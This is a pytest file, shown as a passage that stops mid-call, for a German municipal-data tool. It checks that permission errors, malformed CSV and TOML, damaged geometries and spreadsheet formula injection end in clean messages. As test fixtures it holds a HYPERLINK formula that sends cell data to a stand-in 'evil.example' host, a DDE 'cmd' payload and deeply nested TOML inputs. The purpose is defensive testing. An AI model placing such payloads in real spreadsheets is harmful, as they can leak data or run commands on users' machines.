"""No hostile input or fault ends in a traceback or a silently wrong answer (issue 14).

Reproduces the classes of the reliability issue, items 3–6: operating-system errors
(permissions, a full disk, folders and files in each other's place), strict parsing of the
population tables, curated tables, rules and boundaries, spreadsheet-safe text in every
writer, and a cache that is keyed by content and validated. Most cases run on the small
synthetic dataset of tests/test_reliability_data.py; the ones the issue found on the real
Hessen data run there too. docs/reliability.md lists every case with its test.
"""

from __future__ import annotations

import errno
import logging
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from test_reliability_data import (
    GEMEINDEN,
    TOTAL,
    german,
    make_synthetic,
    population_csv,
    write_boundaries,
)

from wirgeo.errors import FileAccessError, InputError, RulesError
from wirgeo.exports import write_table, write_workbook
from wirgeo.exports.safe_text import FORMULA_STARTS, safe_frame, safe_text
from wirgeo.rules import load_rules
from wirgeo.sources import MAX_POPULATION, read_curated_csv, read_population_csv

# what an error says is checked in English, its message id (test_language checks German)
pytestmark = pytest.mark.usefixtures("english")


@pytest.fixture
def synthetic(tmp_path, setting):
    dataset = make_synthetic(tmp_path / "synthetic")
    setting(data=dataset.data, geo=tmp_path / "geo")
    return dataset


def _clean_exit(code, err, *names):
    """Exit 2, one error line naming every one of ``names``, no traceback."""
    assert code == 2, err
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if line.startswith("wirgeo: error:")]
    assert len(lines) == 1, err
    for name in names:
        assert str(name) in lines[0], err
    return lines[0]


# ----------------------------------------------------------- 3. operating-system errors


def _refuse(monkeypatch, target: Path, exc: OSError):
    """Make reading ``target`` (and only it) fail with ``exc``."""
    original = Path.read_bytes

    def read_bytes(self):
        if self.resolve() == target.resolve():
            raise exc
        return original(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)


def test_unreadable_population_file_is_one_message(synthetic, run_cli, monkeypatch):
    path = synthetic.population
    _refuse(monkeypatch, path, PermissionError(errno.EACCES, "Permission denied", str(path)))
    code, _, err = run_cli("data", "check", *synthetic.args())
    line = _clean_exit(code, err, path)
    assert "permission denied" in line and "Fix:" in line


def test_unreadable_curated_table_is_one_message(synthetic, run_cli, monkeypatch):
    path = synthetic.data / "kiv_grantees.csv"
    _refuse(monkeypatch, path, PermissionError(errno.EACCES, "Permission denied", str(path)))
    code, _, err = run_cli("eligibility", *synthetic.args())
    _clean_exit(code, err, path, "permission denied")


def test_io_error_reading_is_one_message(synthetic, run_cli, monkeypatch):
    path = synthetic.population
    _refuse(monkeypatch, path, OSError(errno.EIO, "Input/output error", str(path)))
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, path, "input/output error")


def test_rules_file_that_is_a_directory(synthetic, run_cli, tmp_path):
    code, _, err = run_cli("eligibility", "--rules", tmp_path, *synthetic.args())
    _clean_exit(code, err, tmp_path, "cannot read the rules file")


def test_population_path_that_is_a_directory(synthetic, run_cli, tmp_path):
    folder = tmp_path / "p.csv"
    folder.mkdir()
    code, _, err = run_cli("data", "check", "--boundaries", synthetic.boundaries,
                           "--population", folder, "--no-cache")
    _clean_exit(code, err, folder)


def test_out_that_is_a_directory_is_refused_before_work(synthetic, run_cli, tmp_path):
    folder = tmp_path / "result.csv"
    folder.mkdir()
    code, out, err = run_cli("eligibility", "--out", folder, *synthetic.args())
    _clean_exit(code, err, folder, "is a folder")
    assert out == ""  # refused before anything was read or printed


def test_out_below_a_file_is_refused(synthetic, run_cli, tmp_path):
    blocker = tmp_path / "afile"
    blocker.write_text("x")
    code, _, err = run_cli("eligibility", "--out", blocker / "x.csv", *synthetic.args())
    _clean_exit(code, err, blocker, "is a file where a folder is expected")
    assert blocker.read_text() == "x"


def _no_temp_files(folder: Path):
    return [p.name for p in folder.iterdir() if p.name.startswith(".")]


def test_disk_full_while_writing_a_csv(synthetic, run_cli, tmp_path, monkeypatch):
    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    out = tmp_path / "out" / "eligibility.csv"
    code, _, err = run_cli("eligibility", "--out", out, *synthetic.args())
    _clean_exit(code, err, out, "the disk is full", "free some space")
    assert not out.exists() and _no_temp_files(out.parent) == []


def test_disk_full_while_writing_a_workbook(synthetic, run_cli, tmp_path, monkeypatch):
    import wirgeo.exports.workbook as workbook

    def full(path):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(workbook, "normalise_zip", full)
    out = tmp_path / "summary.xlsx"
    code, _, err = run_cli("summary", "--out", out, *synthetic.args())
    _clean_exit(code, err, out, "the disk is full")
    assert not out.exists() and _no_temp_files(tmp_path) == []


def test_read_only_output_folder(synthetic, run_cli, tmp_path, monkeypatch):
    import tempfile

    folder = tmp_path / "readonly"
    folder.mkdir()

    def refused(*args, dir=None, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(dir))

    monkeypatch.setattr(tempfile, "mkstemp", refused)
    code, _, err = run_cli("eligibility", "--out", folder / "e.csv", *synthetic.args())
    _clean_exit(code, err, folder, "permission denied")


@pytest.mark.parametrize("code", [errno.EACCES, errno.EPERM, errno.ENOSPC, errno.EDQUOT,
                                  errno.EISDIR, errno.ENOTDIR, errno.EEXIST, errno.EROFS,
                                  errno.ENOENT, errno.ENAMETOOLONG, errno.EMFILE,
                                  errno.EIO, errno.ETXTBSY])
def test_every_os_error_names_path_and_fix(code):
    err = FileAccessError.from_os_error(OSError(code, os.strerror(code), "/x/y.csv"))
    assert str(err).startswith("/x/y.csv: ") and "Fix: " in str(err)
    assert isinstance(err, InputError) and err.errno == code


def test_os_error_while_moving_names_the_target(tmp_path, monkeypatch):
    from wirgeo.core.files import atomic_path

    target = tmp_path / "t.csv"

    def refused(src, dst):
        raise PermissionError(errno.EACCES, "Permission denied", str(src), str(dst))

    monkeypatch.setattr(os, "replace", refused)
    with pytest.raises(PermissionError) as info, atomic_path(target) as tmp:
        tmp.write_text("x")
    assert info.value.filename == str(target)
    assert _no_temp_files(tmp_path) == []


# ---------------------------------------------------------- 4. population CSV, strictly


def _pop(tmp_path, text: str | bytes, name="p.csv") -> Path:
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def test_comma_thousands_split_fields_are_refused_on_the_cli(synthetic, run_cli):
    # the "population total 7,166 ... OK": 164,792 read as two fields
    rows = "".join(f"{a},{p // 1000},{p % 1000:03d},2023-12-31\n" for a, _, _, p in GEMEINDEN)
    synthetic.population.write_text("ags,population,date\n" + rows, encoding="utf-8")
    code, out, err = run_cli("data", "check", *synthetic.args())
    line = _clean_exit(code, err, synthetic.population, "row 2", "4 fields, header has 3")
    assert "thousands separator" in line and "OK" not in out


def test_comma_thousands_on_the_real_data(run_cli, tmp_path, municipalities):
    rows = municipalities[["ags", "population"]].head(3)
    path = _pop(tmp_path, "ags,population,date\n" + "".join(
        f"{a},{german(p).replace('.', ',')},2023-12-31\n" for a, p in rows.itertuples(
            index=False)))
    code, _, err = run_cli("data", "check", "--population", path)
    _clean_exit(code, err, path, "row 2", "thousands separator")


def test_carriage_return_inside_a_population_cell(tmp_path):
    # found by `make fuzz`: the csv module raised "new-line character seen in unquoted field"
    path = _pop(tmp_path, b"ags;population;date\n06440001;0;2023-12-31\n"
                          b"06440002;:\r;2023-12-31\n")
    with pytest.raises(InputError, match="row 3: row has 2 fields, header has 3"):
        read_population_csv(path)
    windows = _pop(tmp_path, b"ags;population;date\r\n06411000;5;2023-12-31\r\n", "w.csv")
    assert read_population_csv(windows).municipalities.population.tolist() == [5]


def test_extra_field_in_a_semicolon_file(tmp_path):
    path = _pop(tmp_path, "ags;population;date\n06411000;165000;2023-12-31;x\n")
    with pytest.raises(InputError, match=r"row 2: row has 4 fields, header has 3"):
        read_population_csv(path)


@pytest.mark.parametrize("cell", ["10.000", "10,000", "10 000", "10\u00a0000", "10000"])
def test_thousands_separators_in_a_semicolon_file_are_read(tmp_path, cell):
    path = _pop(tmp_path, f"ags;population;date\n06411000;{cell};2023-12-31\n")
    assert read_population_csv(path).municipalities.population.tolist() == [10_000]


@pytest.mark.parametrize(("cell", "expected"), [
    ("1.234,5", "not a number"), ("5000²", "not a number"),
    ("５０００", "not a number"), ("1e3x", "not a number"), ("", "value is empty"),
    ("-5", "negative"), ("99999999999999999999", "far too large"),
    ("1e400", "not a number"), ("nan", "not a number"), ("1e3", "not a number"),
])
def test_bad_population_cells(tmp_path, cell, expected):
    path = _pop(tmp_path, f"ags;population;date\n06411000;{cell};2023-12-31\n")
    with pytest.raises(InputError, match=expected) as info:
        read_population_csv(path)
    assert "row 2" in str(info.value) and "population" in str(info.value)


def test_implausible_population_is_refused_on_the_cli(synthetic, run_cli):
    rows = [(a, p) for a, _, _, p in GEMEINDEN]
    rows[0] = (rows[0][0], 10**12)  # the 10¹² inhabitants
    synthetic.population.write_text(population_csv(rows), encoding="utf-8")
    code, _, err = run_cli("data", "check", *synthetic.args())
    line = _clean_exit(code, err, synthetic.population, "row 2", "column 'population'")
    assert "far too large" in line or "not plausible" in line


def test_plausibility_bound_is_berlin_sized(tmp_path):
    ok = _pop(tmp_path, "ags;population;date\n06411000;3900000;2023-12-31\n", "ok.csv")
    assert read_population_csv(ok).municipalities.population.tolist() == [3_900_000]
    too = _pop(tmp_path, f"ags;population;date\n06411000;{MAX_POPULATION + 1}"
                         ";2023-12-31\n", "too.csv")
    with pytest.raises(InputError, match="not plausible for one Gemeinde"):
        read_population_csv(too)


@pytest.mark.parametrize("date", ["2023-02-30", "31.02.2023", "2023-13-01", "00.12.2023"])
def test_impossible_dates(tmp_path, date):
    path = _pop(tmp_path, f"ags;population;date\n06411000;165000;{date}\n")
    with pytest.raises(InputError, match="is not a date that exists") as info:
        read_population_csv(path)
    assert "row 2, column 'date'" in str(info.value)


def test_impossible_date_on_the_cli(synthetic, run_cli):
    synthetic.population.write_text(population_csv().replace("2023-12-31", "2023-02-30"),
                                    encoding="utf-8")
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, synthetic.population, "row 2", "not a date that exists")


@pytest.mark.parametrize(("text", "expected"), [
    (b"", "file is empty"), (b"\n\n", "file is empty"),
    (b"ags;population;date\n", "no data rows"),
])
def test_empty_population_files(tmp_path, text, expected):
    with pytest.raises(InputError, match=expected):
        read_population_csv(_pop(tmp_path, text))


def test_population_utf8_with_bom(tmp_path):
    path = _pop(tmp_path, "\ufeffAGS;Einwohner;Stichtag;Gemeinde\n06531005;90000;31.12.2023;"
                          "Gießen\n")
    table = read_population_csv(path)
    assert table.municipalities.name_official.tolist() == ["Gießen"]


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1", "utf-16"])
def test_population_in_a_legacy_code_page_is_read_and_said(tmp_path, caplog, encoding):
    text = "AGS;Einwohner;Stichtag;Gemeinde\n06531005;90000;31.12.2023;Gießen\n"
    path = _pop(tmp_path, text.encode(encoding))
    with caplog.at_level(logging.INFO, logger="wirgeo"):
        table = read_population_csv(path)
    assert table.municipalities.name_official.tolist() == ["Gießen"]
    said = "UTF-16" if encoding == "utf-16" else "Windows-1252"
    assert any(said in r.getMessage() and str(path) in r.getMessage()
               for r in caplog.records)


def test_population_in_dos_code_page_850_is_refused(tmp_path):
    text = "AGS;Einwohner;Stichtag;Gemeinde\n06531005;90000;31.12.2023;Gießen\n"
    with pytest.raises(InputError, match="neither UTF-8 nor plain Windows-1252") as info:
        read_population_csv(_pop(tmp_path, text.encode("cp850")))
    assert "row 2" in str(info.value) and "save the file as UTF-8" in str(info.value)


def test_binary_file_as_population(tmp_path):
    with pytest.raises(InputError, match="NUL"):
        read_population_csv(_pop(tmp_path, b"ags;population\x00\x00\x01\n"))


def test_cli_says_which_encoding_was_read(synthetic, run_cli):
    synthetic.population.write_bytes(
        population_csv().replace("ags;", "Gemeindeschlüssel;").encode("cp1252"))
    code, out, err = run_cli("data", "check", *synthetic.args())
    assert code == 0, err
    assert f"{synthetic.population}: read as Windows-1252" in err
    assert f"{TOTAL:,}" in out  # the figure in the reader's (here English) format


# ------------------------------------------------------------------ Destatis xlsx


@pytest.fixture(scope="module")
def gv_rows(destatis_sheet):
    rows = destatis_sheet
    return rows[:6], [list(r) for r in rows[6:] if r[2] == "06"]


@pytest.mark.parametrize(("value", "expected"), [
    (10**12, "far too large"), (5_000_000, "not plausible"), ("1.234.567.890.123", "far"),
    ("1e400", "not a number"),
])
def test_destatis_implausible_population(tmp_path, gv_rows, value, expected):
    from test_sources import write_gv

    from wirgeo.sources import read_destatis_gv

    head, body = gv_rows
    i = next(j for j, r in enumerate(body) if r[0] == "60")
    body = [list(r) for r in body]
    body[i][9] = value
    path = write_gv(tmp_path / "gv.xlsx", head, body)
    with pytest.raises(InputError, match=expected) as info:
        read_destatis_gv(path)
    assert f"row {len(head) + i + 1}" in str(info.value)


def test_destatis_impossible_reference_date(tmp_path, gv_rows):
    from test_sources import write_gv

    from wirgeo.sources import read_destatis_gv

    head, body = gv_rows
    head = [[str(c).replace("31.12.2023", "31.02.2023") if isinstance(c, str) else c
             for c in r] for r in head]
    path = write_gv(tmp_path / "gv.xlsx", head, body)
    with pytest.raises(InputError, match="not a date that exists"):
        read_destatis_gv(path)


# ---------------------------------------------------------------- curated tables


def _grantees(synthetic, text: str | bytes) -> Path:
    path = synthetic.data / "kiv_grantees.csv"
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


_G_HEADER = ("ags,name,round,years,consortium_id,project,amount_eur,status,source_url,"
             "further_sources,note\n")
_G_ROW = "06440004,Dorfen,KIV II,2020/2021,,Strategie,{amount},confirmed,https://e.org/d,,\n"


@pytest.mark.parametrize(("text", "expected"), [
    ("", "file is empty"),
    ("\n \n", "file is empty"),
    (_G_HEADER + _G_ROW.format(amount="20000") + ",x\n", "row 3: row has 2 fields"),
    (_G_HEADER + _G_ROW.format(amount="20000").rstrip("\n") + ",extra\n",
     "row 2: row has 12 fields, the header has 11"),
    (_G_HEADER + _G_ROW.format(amount="20000²"), "column 'amount_eur'"),
    (_G_HEADER + _G_ROW.format(amount="99999999999999999999999"), "not plausible"),
    (_G_HEADER + _G_ROW.format(amount="20.000"), "not a whole number of euros"),
    (_G_HEADER.replace("note", "ags"), "column 'ags' appears twice"),
    (_G_HEADER + _G_ROW.format(amount="").replace("06440004", "0644000²"),
     "not made of digits"),
    (_G_HEADER + _G_ROW.format(amount="").replace("06440004", "06412000").replace(
        "Dorfen", "Frankfurt am Main"), "is a kreisfreie Stadt"),
], ids=["zero-bytes", "blank", "short-row", "long-row", "superscript-amount",
        "overflow-amount", "separator-amount", "duplicate-header", "superscript-ags",
        "kreisfreie-stadt"])
def test_bad_grantee_tables_on_the_cli(synthetic, run_cli, text, expected):
    path = _grantees(synthetic, text)
    code, _, err = run_cli("eligibility", *synthetic.args())
    _clean_exit(code, err, path, expected)


def test_header_only_grantee_table_means_no_grantees(synthetic, run_cli):
    _grantees(synthetic, _G_HEADER)
    code, out, err = run_cli("eligibility", *synthetic.args())
    assert code == 0, err


def test_every_row_one_field_too_many_is_not_taken_as_an_index(tmp_path):
    # pandas would silently use the first column as the index and shift every value
    path = tmp_path / "t.csv"
    path.write_text("ags,name,source_url\n06411000,06411000,Darmstadt,https://e.org\n")
    with pytest.raises(InputError, match="row 2: row has 4 fields, the header has 3"):
        read_curated_csv(path, required=["ags", "name"], keys={"ags": 8})


def test_curated_table_with_bom_and_windows_1252(tmp_path, caplog):
    path = tmp_path / "t.csv"
    path.write_bytes("\ufeffags,name,source_url\n06531005,Gießen,https://e.org\n"
                     .encode("utf-8"))
    assert read_curated_csv(path, required=["ags", "name"]).name.tolist() == ["Gießen"]
    path.write_bytes("ags,name,source_url\n06531005,Gießen,https://e.org\n".encode("cp1252"))
    with caplog.at_level(logging.INFO, logger="wirgeo"):
        assert read_curated_csv(path, required=["ags", "name"]).name.tolist() == ["Gießen"]
    assert any("Windows-1252" in r.getMessage() for r in caplog.records)
    path.write_bytes("ags,name,source_url\n06531005,Gießen,https://e.org\n".encode("cp850"))
    with pytest.raises(InputError, match="row 2: is neither UTF-8"):
        read_curated_csv(path, required=["ags", "name"])


def test_impossible_date_in_a_curated_table(synthetic, run_cli):
    path = synthetic.data / "territorial_changes.csv"
    path.write_text(path.read_text() + "06440001,Altdorf,06440002,Bergheim,2018-02-30,"
                    "https://e.org\n", encoding="utf-8")
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, path, "row 2", "in_force", "not a date")


def test_kreisfreie_stadt_as_grantee_on_the_real_data(run_cli, tmp_path, municipalities):
    from wirgeo.core.paths import data_dir

    text = (data_dir() / "kiv_grantees.csv").read_text(encoding="utf-8")
    path = tmp_path / "grantees.csv"
    path.write_text(text + "06411000,Darmstadt,KIV II,2020,,Strategie,,confirmed,"
                           "https://e.org,,\n", encoding="utf-8")
    code, _, err = run_cli("eligibility", "--grantees", path)
    row = len(text.splitlines()) + 1
    _clean_exit(code, err, path, f"row {row}", "kreisfreie Stadt")


def test_sonderstatusstadt_that_is_kreisfrei(synthetic, run_cli):
    path = synthetic.data / "sonderstatusstaedte.csv"
    path.write_text("ags,name,source_url\n06412000,Frankfurt am Main,https://e.org\n",
                    encoding="utf-8")
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, path, "row 2", "is a kreisfreie Stadt")


def test_sonderstatusstadt_unknown_to_the_official_data(synthetic, run_cli):
    path = synthetic.data / "sonderstatusstaedte.csv"
    path.write_text("ags,name,source_url\n06440009,Nirgendwo,https://e.org\n",
                    encoding="utf-8")
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, path, "row 2", "not a municipality of the official data")


# --------------------------------------------------------------------- rules TOML


@pytest.mark.parametrize(("text", "expected"), [
    (b"", "defines no rules"),
    (b"# only a comment\n", "defines no rules"),
    (b"[scenarios.x]\ndescription = 'x'\n", "defines no rules"),
    (b"[rules.single_min]\nvalue = 2024-02-30\n", "not valid TOML"),
    (b"[rules.single_min]\nvalue = 99999999999999999999\nquote = 'q'\n"
     b"source_url = 'https://e.org'\n", "more than Germany's population"),
    (b"[rules.single_min]\nvalue = 1e400\nquote = 'q'\nsource_url = 'https://e.org'\n",
     "must be a whole number"),
    ("[rules.single_min]\nvalue = 10000\nquote = 'Einwohnerzahl 10.000 für Städte'\n"
     "source_url = 'https://e.org'\n".encode("cp850"), "neither UTF-8"),
    (b"[rules.single_min]\x00\n", "NUL"),
    # issue 19: these ended in tracebacks (AttributeError, RecursionError)
    (b"[[rules]]\nvalue = 1\n", "must hold named tables"),
    (b"a = " + b"[" * 5000 + b"]" * 5000 + b"\n", "nested too deeply"),
    (b"[rules.x]\nvalue = " + b"{a = " * 2000 + b"1" + b"}" * 2000 + b"\n",
     "nested too deeply"),
], ids=["empty", "comment", "no-rules-table", "impossible-date", "overflow", "inf",
        "code-page-850", "binary", "array-of-rules", "nested-lists", "nested-tables"])
def test_bad_rules_files(tmp_path, text, expected):
    from wirgeo.settings import settings

    path = tmp_path / "rules.toml"
    path.write_bytes(text)
    with settings.override(language="en"), pytest.raises(RulesError, match=expected) as info:
        load_rules(path)
    assert str(path) in str(info.value)


def test_rules_in_windows_1252_are_read(tmp_path, caplog):
    from wirgeo.core.paths import data_dir

    path = tmp_path / "rules.toml"
    path.write_bytes((data_dir() / "kiv_rules.toml").read_text(encoding="utf-8")
                     .encode("cp1252"))
    with caplog.at_level(logging.INFO, logger="wirgeo"):
        assert load_rules(path) == load_rules()
    assert any("Windows-1252" in r.getMessage() for r in caplog.records)


def test_empty_rules_file_on_the_cli(synthetic, run_cli, tmp_path):
    path = tmp_path / "empty.toml"
    path.write_text("")
    code, _, err = run_cli("eligibility", "--rules", path, *synthetic.args())
    _clean_exit(code, err, path, "defines no rules")


# ------------------------------------------------------------- boundaries, geometries


def _nullify(path: Path, fids: list[int] | None):
    """Set the geometry of some (or all) municipalities to NULL, as a damaged file has."""
    con = sqlite3.connect(path)
    for (name,) in con.execute("select name from sqlite_master where type='trigger'"):
        con.execute(f'drop trigger "{name}"')
    where = "" if fids is None else f" where fid in ({','.join(map(str, fids))})"
    con.execute(f"update vg250_gem set geom = NULL{where}")
    con.commit()
    con.close()


def test_all_empty_geometries(synthetic, run_cli, tmp_path):
    # the "covered 0 of 246 (optimal)"
    write_boundaries(synthetic.boundaries.with_name("e.gpkg"), empty=True)
    code, out, err = run_cli("consortia", "--boundaries", synthetic.boundaries.with_name(
        "e.gpkg"), "--population", synthetic.population, "--no-cache", "--out",
        tmp_path / "plan.csv")
    _clean_exit(code, err, "e.gpkg", "all 6 geometries are empty or NULL")
    assert "covered" not in out and "abgedeckt" not in out


def test_all_null_geometries(synthetic, run_cli):
    _nullify(synthetic.boundaries, None)
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, synthetic.boundaries, "all 6 geometries are empty or NULL")


def test_one_null_geometry_is_named(synthetic, run_cli):
    _nullify(synthetic.boundaries, [2])
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, synthetic.boundaries, "1 of 6", GEMEINDEN[1][0])


def test_damaged_geometry_blob(synthetic, run_cli):
    con = sqlite3.connect(synthetic.boundaries)
    for (name,) in con.execute("select name from sqlite_master where type='trigger'"):
        con.execute(f'drop trigger "{name}"')
    con.execute("update vg250_gem set geom = X'4750000100000000DEADBEEF' where fid = 1")
    con.commit()
    con.close()
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, synthetic.boundaries, "cannot be read", "damaged")


def test_flipped_bytes_in_the_geopackage(synthetic, run_cli):
    data = bytearray(synthetic.boundaries.read_bytes())
    for i in range(2_000, len(data), 97):
        data[i] ^= 0xFF
    synthetic.boundaries.write_bytes(bytes(data))
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, synthetic.boundaries)


def test_zero_byte_geopackage(synthetic, run_cli):
    synthetic.boundaries.write_bytes(b"")
    code, _, err = run_cli("data", "check", *synthetic.args())
    _clean_exit(code, err, synthetic.boundaries, "GeoPackage")


def _rewrite_layer(path: Path, layer: str, change) -> None:
    """Replace one layer of the GeoPackage by ``change(frame)``."""
    import warnings

    frame = change(gpd.read_file(path, layer=layer))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # NaN coordinates, mixed geometry types
        frame.to_file(path, layer=layer, driver="GPKG", engine="pyogrio")


def _nan_corner(frame):
    import warnings

    import shapely

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # shapely warns about the NaN it is given
        frame.loc[1, "geometry"] = shapely.MultiPolygon([shapely.Polygon(
            [(470_000, 5_560_000), (float("nan"), 5_560_000), (475_000, 5_565_000)])])
    return frame


@pytest.mark.parametrize(("layer", "change", "expected"), [
    # issue 19: points or lines were accepted as boundaries ("Ergebnis: OK")
    ("vg250_gem", lambda f: f.assign(geometry=f.geometry.centroid),
     ["'vg250_gem' holds Point geometries, not areas"]),
    ("vg250_krs", lambda f: f.assign(geometry=f.geometry.boundary),
     ["'vg250_krs' holds MultiLineString geometries, not areas"]),
    ("vg250_gem", lambda f: f.assign(geometry=[g.boundary if i == 2 else g
                                               for i, g in enumerate(f.geometry)]),
     ["1 of 6 features are not areas", "MultiLineString", "06440003"]),
    ("vg250_gem", _nan_corner, ["not numbers", "06440002"]),
    # a Kreis missing from the Kreis layer left 19 Gemeinden without a Kreis name, exit 0
    ("vg250_krs", lambda f: f[f["AGS"] != "06440"],
     ["5 Gemeinde(n) belong to Kreis 06440", "vg250_krs", "06440001"]),
    ("vg250_krs", lambda f: pd.concat([f, f.iloc[[1]].assign(AGS="06499", ARS="06499")]),
     ["Kreis 06499 has no Gemeinde"]),
])
def test_boundaries_that_are_not_areas_or_not_whole(synthetic, run_cli, layer, change,
                                                     expected):
    _rewrite_layer(synthetic.boundaries, layer, change)
    code, out, err = run_cli("data", "check", *synthetic.args(), "--lang", "en")
    _clean_exit(code, err, synthetic.boundaries, *expected)
    assert "OK" not in out


@pytest.mark.parametrize("epsg", [4326, 3857, 31467])
def test_other_crs_is_reprojected_and_said(synthetic, run_cli, tmp_path, epsg):
    write_boundaries(synthetic.boundaries, crs=epsg)
    out = tmp_path / "gemeinden.csv"
    code, _, err = run_cli("data", "check", *synthetic.args("--out", out))
    assert code == 0, err
    assert "reprojected to EPSG:25832" in err and f"EPSG:{epsg}" in err
    assert err.count("reprojected to") == 1  # one line for the file, not one per layer
    area = pd.read_csv(out, dtype={"ags": str}).set_index("ags")["area_km2"]
    # 5 km squares: 25 km² (square degrees would be ~0.003)
    assert area.round(0).eq(25).all(), area


def test_reprojected_the_same_in_every_command(synthetic, run_cli, tmp_path):
    write_boundaries(synthetic.boundaries, crs=4326)
    for command in (["data", "check"], ["eligibility"],
                    ["consortia", "--out", tmp_path / "plan.csv"]):
        code, _, err = run_cli(*command, *synthetic.args())
        assert code == 0, err
        assert "reprojected to EPSG:25832" in err, command


# ------------------------------------------------------- 5. spreadsheet-safe text


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_safe_text_neutralises_every_formula_start(start):
    assert safe_text(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", [-5, 3.5, True, None, "Alsfeld", "06411000", "'=x",
                                   "a=b", ""])
def test_safe_text_leaves_numbers_and_plain_text(value):
    assert safe_text(value) == value


def test_safe_frame_keeps_number_columns_and_the_input(tmp_path):
    frame = pd.DataFrame({"t": ["=1+1", "ok"], "n": [-1, 2], "f": [-0.5, 1.0]})
    safe = safe_frame(frame)
    assert safe.t.tolist() == ["'=1+1", "ok"] and frame.t.tolist() == ["=1+1", "ok"]
    assert safe.n.dtype == frame.n.dtype and safe.n.tolist() == [-1, 2]


_HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_write_table_csv_is_safe(tmp_path):
    frame = pd.DataFrame({"name": [_HYPERLINK, "+49 6031", "@SUM(A1)", "\tx", "Alsfeld"],
                          "population": [-1, 2, 3, 4, 5]})
    text = write_table(frame, tmp_path / "t.csv").read_text()
    assert "'=HYPERLINK" in text and "'+49" in text and "'@SUM" in text
    assert "\n=" not in text and ",-1\n" in text


def _cells(path: Path):
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_write_workbook_is_safe(tmp_path):
    frame = pd.DataFrame({"name": [_HYPERLINK, "-x"], "population": [-5, 7]})
    cells = _cells(write_workbook(tmp_path / "w.xlsx", {"s": frame}))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells} >= {"'" + _HYPERLINK, "'-x", -5, 7}


def test_write_table_xlsx_is_safe(tmp_path):
    cells = _cells(write_table(pd.DataFrame({"a": [_HYPERLINK]}), tmp_path / "t.xlsx"))
    assert not [c for c in cells if c.data_type == "f"]


def test_summary_workbook_with_a_formula_in_a_grantee(run_cli, tmp_path, municipalities):
    # the example: a project text beginning with "=" became a live formula
    from wirgeo.core.paths import data_dir

    table = pd.read_csv(data_dir() / "kiv_grantees.csv", dtype=str, keep_default_na=False)
    table.loc[0, ["project", "years"]] = [_HYPERLINK, "=1+1"]
    path = tmp_path / "grantees.csv"
    table.to_csv(path, index=False)
    out = tmp_path / "summary.xlsx"
    code, _, err = run_cli("summary", "--grantees", path, "--out", out)
    assert code == 0, err
    cells = _cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + _HYPERLINK in values and "'=1+1" in values
    eligibility = tmp_path / "e.csv"
    code, _, err = run_cli("eligibility", "--grantees", path, "--out", eligibility)
    assert code == 0, err
    assert "\n=" not in eligibility.read_text() and ",=" not in eligibility.read_text()


@pytest.fixture
def risky(tmp_path, setting):
    """The synthetic dataset with a Gemeinde whose official name starts with '='."""
    dataset = make_synthetic(tmp_path / "risky")
    setting(data=dataset.data, geo=tmp_path / "geo")
    gem = gpd.read_file(dataset.boundaries, layer="vg250_gem")
    gem.loc[0, "GEN"] = "=cmd|'/C calc'!A0"
    gem.to_file(dataset.boundaries, layer="vg250_gem", driver="GPKG")
    return dataset


def _assert_no_formula_text(path: Path):
    if path.suffix == ".xlsx":
        cells = _cells(path)
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
        assert not [c.value for c in cells if isinstance(c.value, str)
                    and c.value.startswith(FORMULA_STARTS)], path
    elif path.suffix == ".csv":
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        starts = frame.apply(lambda s: s.str.startswith(FORMULA_STARTS)).to_numpy()
        assert not starts.any(), path


def test_plan_workbook_and_tables_are_safe(risky, run_cli, tmp_path):
    plan, members = tmp_path / "plan.xlsx", tmp_path / "members.csv"
    code, _, err = run_cli("consortia", "--out", plan, "--members", members, *risky.args())
    assert code == 0, err
    for path in (plan, members):
        _assert_no_formula_text(path)
    assert "'=cmd" in members.read_text()
    code, _, err = run_cli("consortia", "--out", tmp_path / "plan.csv", *risky.args())
    assert code == 0, err
    _assert_no_formula_text(tmp_path / "plan.csv")


def test_demo_output_set_is_safe(risky, run_cli, tmp_path):
    out = tmp_path / "out"
    code, _, err = run_cli("demo", "--out-dir", out, *risky.args())
    assert code == 0, err
    written = [p for p in out.iterdir() if p.suffix in (".csv", ".xlsx")]
    assert len(written) >= 3
    for path in written:
        _assert_no_formula_text(path)


def test_data_compare_output_is_safe(risky, run_cli, tmp_path):
    new = tmp_path / "new.csv"
    rows = [(a, p) for a, _, _, p in GEMEINDEN]
    rows[0] = (rows[0][0], 12_000)  # the risky Gemeinde grows out of "small"
    new.write_text(population_csv(rows), encoding="utf-8")
    out = tmp_path / "changes.csv"
    code, _, err = run_cli("data", "compare", risky.population, new, "--source",
